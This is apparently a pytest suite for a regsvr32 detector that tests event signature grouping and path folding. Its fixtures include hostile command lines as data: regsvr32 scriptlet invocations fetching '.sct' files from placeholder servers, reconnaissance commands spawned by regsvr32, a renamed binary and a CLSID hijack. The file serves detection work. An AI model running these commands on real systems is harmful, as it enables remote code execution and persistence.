"""regsvr32_signature: the same for what differs only by user, host, version or temp name; different
for a real difference (switches, target kind, location, module, server)."""

import pytest

from support.events import HOME, REGSVR32, cim, sec4688_xml, sysmon1, sysmon3, sysmon7, sysmon13
from regsvr32_detector import Detector
from regsvr32_detector.signature import MAX_CHARS, fold_path

pytestmark = pytest.mark.pure

DETECTOR = Detector()


def sig(record):
    verdict = DETECTOR.evaluate(record)
    assert verdict.error == ""
    return verdict.signature


BOB = "C:\\Users\\bob\\"
TEAMS = "AppData\\Local\\Microsoft\\TeamsMeetingAddin\\%s\\x64\\Microsoft.Teams.AddinLoader.dll"

SAME = [
    ("another user",
     sysmon1("regsvr32 /s " + HOME + "AppData\\Roaming\\a\\x.dll"),
     sysmon1("regsvr32 /s " + BOB + "AppData\\Roaming\\a\\x.dll", user="CORP\\bob")),
    ("another host and log source (Sysmon, 4688, CIM)",
     sysmon1("regsvr32 /s C:\\Tools\\x.dll", computer="WS01"),
     sec4688_xml("regsvr32 /s C:\\Tools\\x.dll", host="SRV09")),
    ("CIM tstats row",
     sysmon1("regsvr32 /s C:\\Tools\\x.dll"),
     cim("regsvr32 /s C:\\Tools\\x.dll", prefix="Processes.")),
    ("another product version",
     sysmon1("regsvr32 /s /n /i:user " + HOME + TEAMS % "1.0.22304.2"),
     sysmon1("regsvr32 /s /n /i:user " + BOB + TEAMS % "1.0.23025.3")),
    ("another installer temp folder",
     sysmon1("regsvr32 /s " + HOME + "AppData\\Local\\Temp\\is-4RM1L.tmp\\QClick\\QClickV2.ocx"),
     sysmon1("regsvr32 /s " + BOB + "AppData\\Local\\Temp\\is-K09QF.tmp\\QClick\\QClickV2.ocx")),
    ("another random temp file name",
     sysmon1("regsvr32 /s C:\\Windows\\Temp\\x7f3a.dll"),
     sysmon1("regsvr32 /s C:\\Windows\\Temp\\91bc02.dll")),
    ("another GUID folder",
     sysmon1("regsvr32 /s C:\\ProgramData\\{4B3C2A10-1111-2222-3333-444455556666}\\x.dll"),
     sysmon1("regsvr32 /s C:\\ProgramData\\{9F00AA10-1111-2222-3333-444455556666}\\x.dll")),
    ("switch order, case, dash and quoting",
     sysmon1("regsvr32 /s /u C:\\Tools\\x.dll"),
     sysmon1("REGSVR32.EXE -U -S \"C:\\TOOLS\\X.DLL\"")),
    ("32- or 64-bit regsvr32",
     sysmon1("regsvr32 /s C:\\Tools\\x.dll"),
     sysmon1("regsvr32 /s C:\\Tools\\x.dll", image="C:\\Windows\\SysWOW64\\regsvr32.exe")),
    ("another BITS temp name",
     sysmon1("regsvr32 /s C:\\ProgramData\\BIT1A2B.tmp"),
     sysmon1("regsvr32 /s C:\\ProgramData\\BITF00D.tmp")),
    ("child process ids (CAR's WerFault -u -p <pid>)",
     sysmon1("C:\\Windows\\System32\\WerFault.exe -u -p 4711 -s 120",
             image="C:\\Windows\\System32\\WerFault.exe", parent=REGSVR32),
     sysmon1("C:\\Windows\\System32\\WerFault.exe -u -p 9032 -s 88",
             image="C:\\Windows\\System32\\WerFault.exe", parent=REGSVR32)),
    ("image load by another user",
     sysmon7(HOME + "AppData\\Local\\Temp\\a1b2.dll", signed="false"),
     sysmon7(BOB + "AppData\\Local\\Temp\\c3d4.dll", signed="false")),
]

DIFFERENT = [
    ("another module",
     sysmon1("regsvr32 /s C:\\Users\\Public\\payload.dll"),
     sysmon1("regsvr32 /s C:\\Users\\Public\\evil.dll")),
    ("another extension in the same temp folder",
     sysmon1("regsvr32 /s C:\\Windows\\Temp\\x7f3a.dll"),
     sysmon1("regsvr32 /s C:\\Windows\\Temp\\x7f3a.jpg")),
    ("another switch",
     sysmon1("regsvr32 /s C:\\Tools\\x.dll"),
     sysmon1("regsvr32 /s /u C:\\Tools\\x.dll")),
    ("local scriptlet or URL",
     sysmon1("regsvr32 /s /n /u /i:C:\\Users\\Public\\a.sct scrobj.dll"),
     sysmon1("regsvr32 /s /n /u /i:http://example.com/a.sct scrobj.dll")),
    ("another server",
     sysmon1("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll"),
     sysmon1("regsvr32 /s /n /u /i:http://198.51.100.8/a.sct scrobj.dll")),
    ("share or local copy",
     sysmon1("regsvr32 /s \\\\fs01\\pub\\x.dll"),
     sysmon1("regsvr32 /s C:\\pub\\x.dll")),
    ("another profile folder",
     sysmon1("regsvr32 /s " + HOME + "Downloads\\x.dll"),
     sysmon1("regsvr32 /s " + HOME + "Desktop\\x.dll")),
    ("Users\\Public is not a user",
     sysmon1("regsvr32 /s C:\\Users\\Public\\x.dll"),
     sysmon1("regsvr32 /s " + HOME + "x.dll")),
    ("renamed or relocated regsvr32",
     sysmon1("regsvr32 /s C:\\Tools\\x.dll"),
     sysmon1("upd.exe /s C:\\Tools\\x.dll", image="C:\\ProgramData\\upd.exe", ofn="REGSVR32.EXE")),
    ("another child",
     sysmon1("cmd.exe /c whoami", image="C:\\Windows\\System32\\cmd.exe", parent=REGSVR32),
     sysmon1("cmd.exe /c net user", image="C:\\Windows\\System32\\cmd.exe", parent=REGSVR32)),
    ("module name digits outside temp folders",
     sysmon1("regsvr32 /s C:\\Windows\\System32\\msxml3.dll"),
     sysmon1("regsvr32 /s C:\\Windows\\System32\\msxml6.dll")),
    ("hijacked CLSID",
     sysmon13("HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}"
              "\\InprocServer32\\(Default)", "C:\\Windows\\System32\\scrobj.dll"),
     sysmon13("HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\CLSID\\{00000002-0000-0000-0000-0000FEEDACDC}"
              "\\InprocServer32\\(Default)", "C:\\Windows\\System32\\scrobj.dll")),
    ("public or non-public destination",
     sysmon3("151.101.0.133"), sysmon3("10.0.2.15")),
]


@pytest.mark.parametrize(("why", "a", "b"), SAME, ids=[c[0] for c in SAME])
def test_signature_is_stable(why, a, b):
    assert sig(a) != "" and sig(a) == sig(b)


@pytest.mark.parametrize(("why", "a", "b"), DIFFERENT, ids=[c[0] for c in DIFFERENT])
def test_signature_tells_real_differences_apart(why, a, b):
    assert sig(a) != "" and sig(b) != "" and sig(a) != sig(b)


@pytest.mark.parametrize("record", [
    sysmon1("notepad.exe x.txt", image="C:\\Windows\\System32\\notepad.exe"),
    sysmon3("151.101.0.133", image="C:\\Windows\\System32\\svchost.exe"),
    {"EventCode": "4624", "TargetUserName": "alice"},
    {},
])
def test_rows_that_are_not_regsvr32_activity_have_no_signature(record):
    assert DETECTOR.evaluate(record).fields()["regsvr32_signature"] == ""


def test_a_clean_regsvr32_event_has_a_signature_and_no_score():
    verdict = DETECTOR.evaluate(sysmon1("regsvr32 /s C:\\Windows\\System32\\vbscript.dll"))
    assert verdict.score == 0 and verdict.signature == "regsvr32.exe | /s | module=path,windows," \
        "c:\\windows\\system32\\vbscript.dll"


@pytest.mark.parametrize(("path", "folded"), [
    ("C:\\Users\\alice\\AppData\\Local\\Temp\\_MEI41822\\python3.dll",
     "c:\\users\\<user>\\appdata\\local\\temp\\<tmp>\\python3.dll"),
    ("C:\\Program Files\\Vendor 7.2.1\\x.dll", "c:\\program files\\vendor <ver>\\x.dll"),
    ("C:/Users/alice/x.dll", "c:\\users\\<user>\\x.dll"),
    ("http://EXAMPLE.com/Users/alice/1.2.3/a.sct", "http://example.com/users/alice/<ver>/a.sct"),
    ("\\\\10.1.2.3\\share\\{4B3C2A10-1111-2222-3333-444455556666}\\x.dll",
     "\\\\10.1.2.3\\share\\<guid>\\x.dll"),
    ("C:\\Windows\\WinSxS\\x86_a_31bf3856ad364e35_10.0.19041.1_none_0123456789abcdef\\b.dll",
     "c:\\windows\\winsxs\\x86_a_<hex>_<ver>_none_<hex>\\b.dll"),
])
def test_fold_path(path, folded):
    assert fold_path(path) == folded


def test_hostile_lines_stay_bounded_and_distinct():
    long_a = "regsvr32 /s C:\\x\\" + "z" * 5000 + "1.dll"
    long_b = "regsvr32 /s C:\\x\\" + "z" * 5000 + "2.dll"
    a, b = sig(sysmon1(long_a)), sig(sysmon1(long_b))
    digits = sig(sysmon1("regsvr32 /s C:\\x\\" + "1" * 30000 + ".dll"))
    assert len(a) <= MAX_CHARS and len(digits) <= MAX_CHARS and a != b


@pytest.mark.parametrize("path, folded", [
    ("C:\\A  B\\x.dll", "c:\\a b\\x.dll"), (" C:\\a\\x.dll ", "c:\\a\\x.dll"),
    ("C:\\a\tb\\x.dll", "c:\\a b\\x.dll"), ("C:\\a\u00a0b\\x.dll", "c:\\a b\\x.dll"),
    ("C:/a/x.dll", "c:\\a\\x.dll"), ("HTTP://Host/A  B.sct", "http://host/a  b.sct"),
    ("\\\\Srv1.2\\share\\1.2\\x.dll", "\\\\srv1.2\\share\\<ver>\\x.dll"),
    ("C:\\x\\as-1-5-21\\ms-1-2-3\\s-1-5-21-9\\a", "c:\\x\\as-1-5-21\\ms-1-2-3\\<sid>\\a"),
    ("C:\\v1.2.3\\1.2\\a.1.2\\x.dll", "c:\\v<ver>\\<ver>\\a.1.2\\x.dll"),
])
def test_blanks_urls_shares_sids_and_versions_fold_so(path, folded):
    assert fold_path(path) == folded
